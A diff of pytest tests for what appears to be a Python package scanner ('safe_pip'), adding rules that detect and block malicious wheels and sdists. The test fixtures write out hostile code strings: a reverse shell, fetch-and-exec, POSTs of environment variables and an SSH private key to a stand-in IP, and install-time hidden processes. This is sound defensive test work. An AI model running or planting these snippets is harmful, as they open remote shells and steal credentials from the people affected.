@@ -6,11 +6,12 @@ import base64
 import json
 from dataclasses import replace
 from pathlib import Path
+from textwrap import indent
 
 import pytest
 from packaging.utils import canonicalize_name
 
-from model.hard_rules import showing
+from model.hard_rules import could_show, learnt, shows
 from model.tables import read_tables
 from model.workspace import TABLES
 from safe_pip.archive import DEFAULT_LIMITS
@@ -28,7 +29,7 @@ from safe_pip.scoring.hard_rules import BLOCKING, TELLING
 from safe_pip.scoring.scorer import Scorer
 from safe_pip.terminal.plain import plain_lines
 from safe_pip.verdict import RuleHit, Verdict
-from tests.builders import write_wheel
+from tests.builders import write_sdist, write_wheel
 from tests.policies import DIGESTS, make_decision, make_verdict
 from tests.unit.test_reports import SCANNER
 
@@ -36,6 +37,14 @@ HARMLESS = base64.b64encode(b"import os\nos.system('echo look-alike')\n").decode
 DECODES = f"import base64; exec(base64.b64decode('{HARMLESS}'))\n"
 FETCHES = "import urllib.request; exec(urllib.request.urlopen('http://192.0.2.1/x').read())\n"
 SHELL = "import os, pty, socket\nlink = socket.socket()\nlink.connect(('203.0.113.9', 4444))\nos.dup2(link.fileno(), 0)\npty.spawn('/bin/sh')\n"
+SENDS_ENVIRONMENT = (
+    "import os, requests\nrequests.post('https://192.0.2.1/', json=dict(os.environ))\n"
+)
+SENDS_SECRETS = "import os, requests\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('https://192.0.2.1/', data=key)\n"
+DECODES_COMMAND = f"import base64, os\nos.system(base64.b64decode('{base64.b64encode(b'echo look-alike').decode()}').decode())\n"
+HIDES = "import subprocess\nsubprocess.Popen(['python', '-c', 'pass'], creationflags=0x08000000, start_new_session=True)\n"
+REPORTS = "import socket, requests\nrequests.get('http://192.0.2.1/', params={'host': socket.gethostname()})\n"
+RUNS_DATA = "import os\nexec(open(os.path.join(os.path.dirname(__file__), 'words.txt')).read())\n"
 STARTUP = RuleHit(
     name="startup-decodes",
     says="decodes hidden code and runs it at every interpreter start",
@@ -65,7 +74,12 @@ def judged(folder: Path, files: dict[str, str], scorer: Scorer) -> Verdict:
         ({"sitecustomize.py": DECODES}, {"startup-decodes"}),
         ({"demo/__init__.py": DECODES}, set()),
         ({"demo.pth": "import os; os.environ.setdefault('DEMO', '1')\n"}, set()),
-        ({"demo/__init__.py": SHELL}, {TELLING}),
+        ({"demo/__init__.py": SHELL}, {"remote-shell", TELLING}),
+        ({"demo/__init__.py": f"def connect():\n{indent(SHELL, '    ')}"}, set()),
+        ({"demo/__init__.py": SENDS_ENVIRONMENT}, {"sends-environment", TELLING}),
+        ({"demo/__init__.py": SENDS_SECRETS}, {"sends-secrets", TELLING}),
+        ({"demo/__init__.py": RUNS_DATA, "demo/words.txt": HIDES}, {"data-acts"}),
+        ({"demo/__init__.py": RUNS_DATA, "demo/words.txt": "version = '1.0'\n"}, set()),
     ],
 )
 def test_a_rule_holds_where_its_code_runs(
@@ -77,6 +91,31 @@ def test_a_rule_holds_where_its_code_runs(
     if rules & {rule.name for rule in BLOCKING}:
         assert decision.action is Action.BLOCK
         assert decision.rule in rules - {TELLING}
+
+
+@pytest.mark.parametrize(
+    ("code", "rules"),
+    [
+        (FETCHES, {"install-fetches"}),
+        (DECODES_COMMAND, {"install-decodes"}),
+        (HIDES, {"install-hides"}),
+        (REPORTS, {"install-reports"}),
+        ("import subprocess\nsubprocess.check_call(['make'])\n", set()),
+        ("import os\nos.environ['CC'] = 'gcc'\n", set()),
+    ],
+)
+def test_a_rule_holds_while_installing(
+    tmp_path: Path, scorer: Scorer, code: str, rules: set[str]
+) -> None:
+    files = {"setup.py": f"from setuptools import setup\n{code}setup(name='demo')\n"}
+    path = write_sdist(tmp_path, "demo", files=files)
+    artifact = Artifact(path=path, origin=OriginKind.SCANNED)
+    verdict = inspect(artifact, judge=scorer, limits=DEFAULT_LIMITS)
+    assert {hit.name for hit in verdict.rules} - {TELLING} == rules
+    if rules:
+        assert make_decision(verdict, Policy()).action is Action.BLOCK
+    called = {"demo/more.py": f"def later():\n{indent(code, '    ')}"}
+    assert not judged(tmp_path, called, scorer).rules
 
 
 @pytest.mark.parametrize("score", [0.0, 0.6, 0.99])
@@ -131,5 +170,6 @@ def test_a_rule_survives_the_memory_of_verdicts() -> None:
 def test_no_benign_row_of_the_tables_shows_a_rule_that_blocks() -> None:
     tables = read_tables(TABLES)
     for rule in BLOCKING:
-        assert not (showing(rule, tables) & tables.is_benign).any()
-        assert showing(rule, tables).any()
+        assert not (could_show(rule, tables) & tables.is_benign & learnt(tables)).any()
+        # No sample runs code from its data; a look-alike does.
+        assert shows(rule, tables).any() or rule.in_data
